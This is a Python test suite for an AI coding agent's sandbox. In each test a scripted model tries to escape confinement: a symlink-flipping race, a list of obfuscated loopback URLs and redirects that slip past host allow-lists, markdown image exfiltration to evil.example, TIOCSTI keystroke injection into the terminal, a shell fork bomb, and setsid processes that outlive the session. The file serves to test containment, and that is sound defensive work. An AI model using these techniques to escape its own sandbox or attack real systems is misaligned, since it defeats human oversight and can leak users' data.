"""Ways out that a scripted model tries in whole sessions: held against what came of them, not what was said."""

import time
from typing import Any

from tests.fakes import ScriptedServer, answer
from tests.pty import watched
from tests.runs import Person, gone
from tests.screens import screen_of
from tests.sites import site
from tests.test_packages import calls, confined, told
from tui.markdown import markdown

__all__ = ["confined"]  # a fixture

FLIPPING = """
import os, sys, time
open("flipping", "w").close()
end = time.monotonic() + 60
while not os.path.exists("enough") and time.monotonic() < end:
    os.rename("real", "d")
    os.rename("d", "real")
    os.symlink("../outside", "d")
    os.unlink("d")
"""
# Each of these would be another place, or the same by another name: none of them is what was allowed.
ELSEWHERE = (
    *("http://127.1:{b}/", "http://2130706433:{b}/", "http://0x7f000001:{b}/", "http://0177.0.0.1:{b}/", "http://localhost:{b}/"),
    *("http://[::ffff:127.0.0.1]:{b}/", "http://[::1]:{b}/", "http://127.0.0.1:{b}/", "http://127.0.0.1:{a}@127.0.0.1:{b}/"),
    *("http://127.0.0.1.nip.example:{b}/", "http://127.0.0.1:{a}.example/", "gopher://127.0.0.1:{b}/_x", "ftp://127.0.0.1:{b}/x"),
)
TYPING = """
import fcntl, os
for name in ("/dev/tty", "/dev/stdin", "/dev/pts/0"):
    try:
        fcntl.ioctl(os.open(name, os.O_RDWR), 0x5412, b"!")
        print("typed into", name)
    except OSError as error:
        print(error.errno, name)
"""


async def test_folders_that_turn_into_links_lead_no_edit_of_a_model_outside(confined: Person, server: ScriptedServer) -> None:
    outside = confined.root.parent / "outside"
    outside.mkdir()
    (outside / "f.txt").write_text("theirs")
    (confined.root / "real").mkdir()
    (confined.root / "real" / "f.txt").write_text("ours")
    (confined.root / "flip.py").write_text(FLIPPING)
    edits = [answer("", calls=[("write", {"path": path, "content": "changed"})]) for path in ("d/f.txt", "d/new.txt") * 4]
    flips = answer("", calls=[("shell", {"command": "python3 flip.py", "background": True})])
    begun = answer("", calls=[("shell", {"command": "until [ -e flipping ]; do sleep 0.02; done"})])
    server.script += [flips, begun, *edits, answer("", calls=[("shell", {"command": "touch enough"})]), answer("Done.")]
    run = await confined.trusted("-p", "x", "--mode", "auto", "--output-format", "json")
    assert run.result["status"] in {"done", "denied"}  # a link that is there when it is judged is asked about
    assert {path.name: path.read_text() for path in outside.iterdir()} == {"f.txt": "theirs"}


async def test_a_command_with_one_host_reaches_no_other_however_it_is_led_or_spelled(
    confined: Person, server: ScriptedServer
) -> None:
    async with site() as allowed, site() as other:
        allowed.answers += [
            f"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{other.port}/led\r\nContent-Length: 0\r\n\r\n".encode(),
            f"HTTP/1.1 302 Found\r\nLocation: http://localhost:{other.port}/led\r\nContent-Length: 0\r\n\r\n".encode(),
        ]
        urls = [url.format(a=allowed.port, b=other.port) for url in ELSEWHERE]
        (confined.root / "urls").write_text("".join(f'url = "{url}"\n' for url in urls))
        place = f"http://127.0.0.1:{allowed.port}"
        calls(server, f"curl -sL {place}/one", f"curl -sL {place}/two", f"curl -s --max-time 4 -K urls {place}/three; true")
        lines = await told(confined, *[{"allow": True}] * 3)
        asked = [line for line in lines if line["type"] == "approval.asked"]
        assert [line["confined"] for line in asked[:3]] == [asked[0]["confined"]] * 3
        assert f"127.0.0.1:{allowed.port}" in asked[0]["confined"]
        assert str(other.port) not in asked[0]["confined"]
        assert [head.split(" ")[1] for head in allowed.heads] == ["/one", "/two", "/three"]
        assert (other.came, other.heads) == (0, [])


def test_pictures_and_links_are_text_that_shows_where_it_leads() -> None:
    shown = markdown(
        "![x](http://evil.example/?d=S) <img src='http://evil.example/j'> <http://a.example/b> [doc](http://evil.example/c)"
    )
    assert shown.plain == (
        "[x] (http://evil.example/?d=S) <img src='http://evil.example/j'> http://a.example/b doc (http://evil.example/c)"
    )
    assert {str(span.style) for span in shown.spans} == {"$text-muted", "underline"}  # and none that opens or does anything


async def test_no_picture_and_no_link_of_an_answer_is_fetched(person: Person, server: ScriptedServer) -> None:
    async with site() as there:
        place = f"http://127.0.0.1:{there.port}"
        server.script.append(
            answer(
                f"![drawn]({place}/i.png?d=secret)\n\n<img src='{place}/j.png'>\n\n<{place}/auto> [here]({place}/link)\n\n"
                f"[![both]({place}/k.png)]({place}/l)\n\n```mermaid\ngraph LR; a-->b; click a '{place}/m'\n```\n\nAll shown."
            )
        )
        async with screen_of(person) as screen:
            await screen.say("draw it")
            await screen.see("All shown.", f"{place}/i.png?d=secret")
            await screen.pilot.click("#transcript", offset=(4, 3))
            await screen.pilot.press("enter")
            await screen.see("All shown.")
        assert there.came == 0


async def test_no_key_is_typed_into_the_terminal_that_jumar_runs_on(confined: Person, server: ScriptedServer) -> None:
    (confined.root / "typing.py").write_text(TYPING)
    calls(server, "python3 typing.py")
    environment = confined.environment
    run = ("-p", "x", "--trust", "--mode", "auto", "-q")
    async with watched(*run, cwd=confined.root, environment=environment) as terminal:
        await terminal.sees("Done.")
        assert b"!" not in terminal.raw  # a terminal echoes what is typed
    said = server.bodies()[-1]["messages"][-1]["content"]
    assert "typed into" not in said
    assert "/dev/tty" in said


async def test_what_a_model_starts_takes_no_more_than_its_share_and_nothing_of_it_is_left(
    confined: Person, server: ScriptedServer
) -> None:
    forks = "f() { sleep 83.125 & [ $1 = 0 ] || f $(($1 - 1)) | f $(($1 - 1)) & }; f 9; sleep 83.125"
    takes: list[dict[str, Any]] = [
        {"command": forks},
        {"command": "yes", "timeout": 1},
        {"command": "head -c 20000000 /dev/zero | tr '\\0' x"},
        {"command": "nohup setsid sleep 83.25 > /dev/null 2>&1 & echo left"},
        {"command": "sleep 83.5", "timeout": 1},
    ]
    server.script += [*(answer("", calls=[("shell", one)]) for one in takes), answer("Done.")]
    began = time.monotonic()
    run = await confined.trusted("-p", "x", "--mode", "auto", "--output-format", "json")
    assert time.monotonic() - began < 60
    assert run.code == 0
    replies = [message["content"] for message in server.bodies()[-1]["messages"] if message["role"] == "tool"]
    assert "it had more than 512 processes" in replies[0]
    assert all("timed out" in replies[at] or "after 1 s" in replies[at] for at in (1, 4)), (replies[1][-300:], replies[4])
    assert all(len(reply) < 100_000 for reply in replies)
    assert "left out" in replies[2]
    for mark in ("83.125", "83.25", "83.5"):
        assert await gone(mark)
    spilled = [path.stat().st_size for path in confined.home.rglob("*") if path.is_file()]
    assert max(spilled) <= 65 << 20
    assert run.result["status"] == "done"
